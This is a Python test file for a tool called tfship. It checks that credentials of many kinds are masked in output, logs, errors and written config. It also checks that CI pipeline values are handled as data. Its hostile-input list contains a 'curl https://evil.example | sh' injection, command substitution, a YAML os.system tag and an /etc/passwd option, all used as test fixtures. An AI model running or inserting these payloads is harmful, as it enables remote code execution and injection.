"""Secrets (issue 13 §6): a credential never reaches stdout, stderr or a file tfship writes, and
a value from a schedule or API trigger reaches the child pipeline as data, never as YAML/shell.

Each table row names where a credential appears; every row failed before tfship.redact was
applied to logs, results, errors, the backup agent and config.resolved.yaml, and before
ci/data-check built the child pipeline with a YAML serializer.
"""

from __future__ import annotations

import contextlib
import io
import logging
import os
import stat
import subprocess
import sys
import threading
import warnings
from pathlib import Path

import pytest
import yaml

from tests.helpers.moto import moto_fixture
from tfship import cli
from tfship.errors import InfraError
from tfship.redact import redact, redact_text, redact_url, redacting_logs

REPO_ROOT = Path(__file__).resolve().parents[2]
PASSWORD = "Pa55-w0rd-xyzzy"  # the secret every URL case carries
AWS_KEY_ID = "AKIAZZZZ1234567890AB"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzSECRETKEY"
AWS_SESSION_TOKEN = "IQoJb3JpZ2luX2VjEBESSIONTOKENxyz0123456789abcdef"
GITLAB_TOKEN = "glpat-abcdefghij0123456789"

# --- shapes: (where it appears, text, the secret) ----------------------------------------------

SHAPES = [
    ("URL userinfo", f"GET https://alice:{PASSWORD}@serving.example:8501/v1", PASSWORD),
    ("URL userinfo, '@' in the password", "https://u:p@ss-w0rd-xyz@host/x", "ss-w0rd-xyz"),
    ("URL userinfo, percent-encoded", "http://u:Pa55%40w0rd-xyz@h/", "Pa55%40w0rd-xyz"),
    ("token as the whole userinfo", f"https://{GITLAB_TOKEN}@gitlab.example/x.git", GITLAB_TOKEN),
    # An unencoded '/', '?' or '#' in the password (AWS secret keys hold '/'): urlsplit and a
    # userinfo that stops at '/' both see the password as part of the path.
    ("URL userinfo, '/' in an AWS secret", f"s3://{AWS_KEY_ID}:{AWS_SECRET}@bucket/p", "MDENG"),
    ("URL userinfo, '#' in the password", "https://u:Pa55#w0rd-xyz@minio:9000/", "w0rd-xyz"),
    ("URL userinfo, '?' in the password", "redis://:Pa55?w0rd-xyz@cache:6379/0", "w0rd-xyz"),
    (
        "presigned S3 query",
        "https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=5f3c9a1b2d"
        "&X-Amz-Security-Token=FQoGZXIvYXdzEJrSESSION",
        "5f3c9a1b2d",
    ),
    ("presigned token param", "https://b/k?X-Amz-Security-Token=FQoGZXIvSESS&x=1", "FQoGZXIvSESS"),
    (
        "Azure SAS signature",
        "https://a.blob.core.windows.net/c?sv=1&sig=QmFzZTY0U2ln",
        "QmFzZTY0U2ln",
    ),
    ("OAuth fragment", "https://app/cb#access_token=ya29.tokenvalue&x=1", "ya29.tokenvalue"),
    (
        "botocore header dict",
        "{'Authorization': b'AWS4-HMAC-SHA256 Credential=AKIAZZZZ1234567890AB/2025/s3, "
        "Signature=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef', "
        "'X-Amz-Security-Token': b'IQoJb3JpZ2luSESSIONx'}",
        "IQoJb3JpZ2luSESSIONx",
    ),
    ("SigV4 signature", "Signature=" + "ab" * 32, "ab" * 32),
    ("AWS access key id", f"credentials for {AWS_KEY_ID} expired", AWS_KEY_ID),
    ("AWS secret as key=value", f"aws_secret_access_key = {AWS_SECRET}", AWS_SECRET),
    ("MinIO secret key variable", "MINIO_SECRET_KEY=minio-s3cr3t-value", "minio-s3cr3t-value"),
    ("s3fs-style secret_key", "{'secret_key': 'wJalrXUtnSECRET'}", "wJalrXUtnSECRET"),
    ("credentials as key=value", "credentials=alice:Pa55w0rd-xyz", "Pa55w0rd-xyz"),
    ("Azure connection string", "AccountName=a;AccountKey=QmFzZTY0S2V5==;x=1", "QmFzZTY0S2V5"),
    ("JSON password", '{"user": "u", "password": "hunter two 2"}', "hunter two 2"),
    ("YAML token", "gitlab_token: tok-3141592653", "tok-3141592653"),
    ("Bearer header", "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9abc", "eyJhbGciOiJSUzI1NiJ9abc"),
    ("PRIVATE-TOKEN header", "PRIVATE-TOKEN: secret-value-42", "secret-value-42"),
    ("command-line flag", "docker login --password hunter2222 reg", "hunter2222"),
    ("GitLab token alone", f"HTTP 401: token {GITLAB_TOKEN} revoked", GITLAB_TOKEN),
    ("GitHub token alone", "bad credentials ghp_0123456789abcdefghijABCDEFGHIJ", "ghp_0123456789"),
    (
        "JWT (OIDC id token)",
        "id_token eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJwcm9qZWN0In0.c2lnbmF0dXJl",
        "eyJzdWIiOiJwcm9qZWN0In0",
    ),
    (
        "private key",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----",
        "MIIEow",
    ),
]


@pytest.mark.parametrize(("text", "secret"), [s[1:] for s in SHAPES], ids=[s[0] for s in SHAPES])
def test_every_credential_shape_is_masked_in_free_text(text: str, secret: str) -> None:
    assert secret not in redact_text(text, environ={})
    assert "***" in redact_text(text, environ={})


READABLE = [
    "p95_latency_ms <= champion + 10% = 1.98",
    "signature serving_default, max_tokens=5, tokenizer: bert",
    "s3://bucket/prefix/ckpt-5@v2.index",
    "docker://registry:5000/team/image@sha256:0123abcd",
    "https://host:8443/models/a@b",
    "no credentials found in the environment",
    "TFSHIP_GITLAB_TOKEN is not set; add a project access token",
    "(env: GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }})",
    "set TFSHIP_BACKUP_URL=<url>",
    "GITHUB_TOKEN  secret: GitHub token (pull-requests: write) for the PR report comment",
]


@pytest.mark.parametrize("text", READABLE)
def test_ordinary_text_is_left_readable(text: str) -> None:
    assert redact_text(text, environ={}) == text


def test_secret_environment_values_are_masked_verbatim_and_url_encoded() -> None:
    environ = {"MY_SERVICE_TOKEN": "p@ss/word 42", "CI_REGISTRY_PASSWORD": "reg1stry-pw"}
    text = "a p@ss/word 42 b p%40ss%2Fword%2042 c reg1stry-pw"
    assert redact_text(text, environ) == "a *** b *** c ***"


@pytest.mark.parametrize("name", ["MINIO_SECRET_KEY", "SECRET_KEY", "S3_CREDENTIALS"])
def test_a_variable_named_like_a_secret_key_or_credentials_is_masked_verbatim(name: str) -> None:
    assert redact_text("x wJalrXUtnFEMIK7 y", {name: "wJalrXUtnFEMIK7"}) == "x *** y"


def test_redact_url_keeps_host_path_and_ordinary_parameters() -> None:
    url = f"https://u:{PASSWORD}@h.example:8501/v1/models?token=abc&version=3"
    assert redact_url(url) == "https://***@h.example:8501/v1/models?token=***&version=3"


def test_redact_masks_values_under_credential_keys_in_records() -> None:
    record = {"password": "short", "url": f"http://a:{PASSWORD}@h", "steps": [1, 2]}
    assert redact(record, environ={}) == {"password": "***", "url": "http://***@h", "steps": [1, 2]}


# --- the CLI: (where the credential is, environment, argv) -> not in stdout/stderr -------------

CLI_CASES = [
    (
        "serving REST URL userinfo, --output json",
        {"TFSHIP_SERVING_REST_URL": f"http://alice:{PASSWORD}@serving.example:8501"},
        ["config", "--output", "json"],
    ),
    (
        "S3 endpoint URL userinfo, text",
        {"TFSHIP_SERVING_S3_ENDPOINT_URL": f"http://minio:{PASSWORD}@127.0.0.1:9000"},
        ["config"],
    ),
    (
        "backup endpoint URL userinfo",
        {"TFSHIP_BACKUP_ENDPOINT_URL": f"https://minio:{PASSWORD}@store.example"},
        ["config", "--output", "json"],
    ),
    (
        "presigned data URL in --set",
        {},
        [
            "config",
            "--set",
            f"data.path=https://b.s3.amazonaws.com/d.npz?X-Amz-Signature={PASSWORD}",
        ],
    ),
    (
        "champion repository URL in an error",
        {"TFSHIP_GATE_CHAMPION_REPOSITORY": f"https://bob:{PASSWORD}@models.example/repo"},
        ["data", "changed", "--since", "champion"],
    ),
    (
        "argparse echoing a bad value",
        {},
        ["config", "--output", f"https://u:{PASSWORD}@h.example"],
    ),
]


@pytest.mark.parametrize(
    ("environ", "argv"), [c[1:] for c in CLI_CASES], ids=[c[0] for c in CLI_CASES]
)
def test_the_cli_never_prints_a_credential(
    environ: dict[str, str], argv: list[str], monkeypatch, capsys, caplog, tmp_path
) -> None:
    monkeypatch.chdir(tmp_path)
    for key, value in environ.items():
        monkeypatch.setenv(key, value)
    with contextlib.suppress(SystemExit):  # argparse's usage error (exit 2)
        cli.main([*argv, "--run-dir", str(tmp_path / "run")])
    out, err = capsys.readouterr()
    assert out or err, "the command printed nothing: the case tests nothing"
    assert PASSWORD not in out + err + caplog.text


def _failing_handler(exc: BaseException):
    def handler(*_args, **_kwargs):
        raise exc

    return handler


@pytest.mark.parametrize(
    ("exc", "code", "says"),
    [
        pytest.param(
            InfraError(
                f"GET https://alice:{PASSWORD}@serving.example/v1 failed",
                hint=f"check TFSHIP_SERVING_REST_URL (https://alice:{PASSWORD}@serving.example)",
            ),
            8,
            "GET https://***@serving.example/v1 failed",
            id="TfshipError message and hint",
        ),
        pytest.param(
            RuntimeError(f"connect to http://u:{PASSWORD}@127.0.0.1:9000/bucket refused"),
            1,
            "RuntimeError: connect to http://***@127.0.0.1:9000/bucket refused",
            id="unexpected exception: redacted traceback, exit 1",
        ),
    ],
)
def test_errors_are_printed_redacted_with_their_exit_code(
    exc: BaseException, code: int, says: str, monkeypatch, capsys
) -> None:
    monkeypatch.setattr("tfship.env.all_variables", _failing_handler(exc))
    assert cli.main(["env"]) == code
    err = capsys.readouterr().err
    assert says in err and f"(exit code {code}:" in err
    assert PASSWORD not in err


def test_the_resolved_config_written_to_the_run_directory_holds_no_credentials(tmp_path) -> None:
    from tfship.config import dump_config, load_config

    cfg = load_config(
        overrides=[
            f"serving.rest_url=http://alice:{PASSWORD}@serving.example:8501",
            f"serving.s3_endpoint_url=http://minio:{PASSWORD}@127.0.0.1:9000",
        ]
    )
    dump_config(cfg, tmp_path / "config.resolved.yaml")
    text = (tmp_path / "config.resolved.yaml").read_text()
    assert PASSWORD not in text and "http://***@serving.example:8501" in text


# --- logging: every record, warning and uncaught exception of the process ----------------------


def _emit_third_party_debug() -> None:
    logging.getLogger("botocore.endpoint").debug(
        "Sending http request: headers={'X-Amz-Security-Token': b'%s'}", PASSWORD
    )


def _emit_third_party_warning() -> None:
    logging.getLogger("urllib3.connectionpool").warning(
        "Retrying after connection broken: https://u:%s@h.example/x", PASSWORD
    )


def _emit_exception_log() -> None:
    try:
        raise ValueError(f"token={PASSWORD}")
    except ValueError:
        logging.getLogger("some.library").exception("request failed")


def _emit_warning() -> None:
    warnings.warn(f"insecure request to https://u:{PASSWORD}@h.example", UserWarning, stacklevel=1)


def _emit_thread_exception() -> None:
    def crash() -> None:
        raise RuntimeError(f"upload to s3 failed: Authorization: Bearer {PASSWORD}")

    t = threading.Thread(target=crash)
    t.start()
    t.join()


def _emit_tfship_debug() -> None:
    logging.getLogger("tfship.backup").debug("uploading to https://u:%s@h.example", PASSWORD)


EMITTERS = [
    pytest.param(_emit_third_party_debug, False, id="botocore DEBUG headers: not emitted"),
    pytest.param(_emit_third_party_warning, True, id="urllib3 WARNING with a URL: redacted"),
    pytest.param(_emit_exception_log, True, id="log.exception traceback: redacted"),
    pytest.param(_emit_warning, True, id="warnings.warn: redacted"),
    pytest.param(_emit_thread_exception, True, id="uncaught thread exception: redacted"),
    pytest.param(_emit_tfship_debug, True, id="tfship DEBUG under -v: emitted, redacted"),
]


@pytest.mark.parametrize(("emit", "shown"), EMITTERS)
def test_under_verbose_every_log_record_warning_and_crash_is_redacted(emit, shown, caplog) -> None:
    stream = io.StringIO()
    caplog.set_level(logging.DEBUG, logger="tfship")
    with warnings.catch_warnings():
        warnings.simplefilter("always")
        with redacting_logs(verbose=True, stream=stream):
            emit()
    text = stream.getvalue()
    assert PASSWORD not in text + caplog.text
    assert ("***" in text) is shown, text


def test_redacting_logs_restores_levels_and_hooks_on_exit() -> None:
    before = (
        logging.getLogger("botocore").level,
        logging.getLogger("tfship").level,
        sys.excepthook,
        threading.excepthook,
        logging.getLogRecordFactory(),
        list(logging.getLogger().handlers),
    )
    with redacting_logs(verbose=True, stream=io.StringIO()):
        assert logging.getLogger("botocore").level == logging.WARNING
        assert logging.getLogger("tfship").level == logging.DEBUG
    after = (
        logging.getLogger("botocore").level,
        logging.getLogger("tfship").level,
        sys.excepthook,
        threading.excepthook,
        logging.getLogRecordFactory(),
        list(logging.getLogger().handlers),
    )
    assert after == before


# --- real boto3 under -v, and the backup agent --------------------------------------------------

s3_endpoint = pytest.fixture(scope="module", name="s3_endpoint")(moto_fixture)
AWS_ENV = {
    "AWS_ACCESS_KEY_ID": AWS_KEY_ID,
    "AWS_SECRET_ACCESS_KEY": AWS_SECRET,
    "AWS_SESSION_TOKEN": AWS_SESSION_TOKEN,
    "AWS_DEFAULT_REGION": "us-east-1",
}


@pytest.mark.integration
def test_verbose_boto3_calls_print_no_aws_key_secret_or_session_token(s3_endpoint, tmp_path):
    import boto3

    keys = {k.lower(): v for k, v in AWS_ENV.items() if k != "AWS_DEFAULT_REGION"}
    boto3.client("s3", endpoint_url=s3_endpoint, region_name="us-east-1", **keys).create_bucket(
        Bucket="champ"
    )
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith(("TFSHIP_", "AWS_"))},
        **AWS_ENV,
        "TFSHIP_GATE_CHAMPION_REPOSITORY": "s3://champ/models",
        "TFSHIP_SERVING_S3_ENDPOINT_URL": s3_endpoint,
    }
    proc = subprocess.run(
        [sys.executable, "-m", "tfship", "data", "changed", "--since", "champion", "-v"],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr  # no models.config in the bucket: first run
    printed = proc.stdout + proc.stderr
    for secret in (AWS_KEY_ID, AWS_SECRET, AWS_SESSION_TOKEN):
        assert secret not in printed


@pytest.mark.integration
def test_the_backup_agent_reports_a_store_error_without_the_endpoints_password(tmp_path, capfd):
    from tfship.backup.agent import BackupAgent
    from tfship.config import load_config

    bcfg = load_config(
        overrides=[
            "backup.enabled=true",
            "backup.url=s3://bucket/run",
            f"backup.endpoint_url=http://minio:{PASSWORD}@127.0.0.1:9",
            "backup.request_timeout_seconds=2",
        ]
    ).backup
    agent = BackupAgent(bcfg, tmp_path / "ckpt", "s3://bucket/run", chief=True)
    with pytest.raises(InfraError) as raised:
        agent.restore()
    err = capfd.readouterr().err
    assert PASSWORD not in str(raised.value) + err


# --- the data-check child pipeline: hostile DATA_CHECK_SINCE values ---------------------------

HOSTILE_SINCE = [
    pytest.param("champion", id="the default"),
    pytest.param(
        "x\nscript:\n  - curl https://evil.example | sh", id="newline + script: injection"
    ),
    pytest.param('x\'\n"y" # not a comment', id="quotes and a hash"),
    pytest.param("$(touch pwned) `touch pwned` ${IFS}", id="command substitution and backticks"),
    pytest.param("&anchor *anchor !!python/object:os.system", id="YAML anchor, alias and tag"),
    pytest.param("--config=/etc/passwd", id="looks like another option"),
    pytest.param("x" * 20000, id="very long"),
    pytest.param("runs/ci-41: {a: [b]}", id="flow mapping"),
]


def _data_check(tmp_path: Path, since: str, tfship_exit: int) -> tuple[Path, list[str]]:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    fake = bin_dir / "tfship"
    args_file = tmp_path / "tfship-args"
    fake.write_text(f"#!/bin/sh\nprintf '%s\\0' \"$@\" > '{args_file}'\nexit {tfship_exit}\n")
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    child = tmp_path / "retrain-child.yml"
    env = {
        **os.environ,
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "PYTHON": sys.executable,
        "DATA_CHECK_SINCE": since,
        "RETRAIN_CHILD_CONFIG": since,  # hostile too: it is written into include:local
    }
    proc = subprocess.run(
        [str(REPO_ROOT / "ci" / "data-check"), str(child)],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    return child, args_file.read_text().split("\0")[:-1]


@pytest.mark.parametrize("since", HOSTILE_SINCE)
def test_data_changed_child_pipeline_includes_the_pipeline_with_the_value_as_data(tmp_path, since):
    child, argv = _data_check(tmp_path, since, 0)
    assert argv == ["data", "changed", f"--since={since}"]
    assert yaml.safe_load(child.read_text()) == {"include": [{"local": since}]}


@pytest.mark.parametrize("since", HOSTILE_SINCE)
def test_unchanged_child_pipeline_is_one_job_that_prints_the_value_verbatim(tmp_path, since):
    child, _ = _data_check(tmp_path, since, 12)
    doc = yaml.safe_load(child.read_text())
    job = doc["no-new-data"]
    assert set(doc) == {"no-new-data"} and set(job) == {"variables", "script"}
    assert job["variables"] == {"DATA_CHECK_SINCE": {"value": since, "expand": False}}
    # What the runner does: the variable in the environment, the script lines through a shell.
    run = subprocess.run(
        ["bash", "-ec", "\n".join(job["script"])],
        cwd=tmp_path, env={"PATH": os.environ["PATH"], "DATA_CHECK_SINCE": since},
        capture_output=True, text=True, timeout=30,
    )  # fmt: skip
    assert run.stdout == (
        f"data unchanged since {since} - training skipped (tfship data changed exit 12)\n"
    )
    assert not (tmp_path / "pwned").exists()
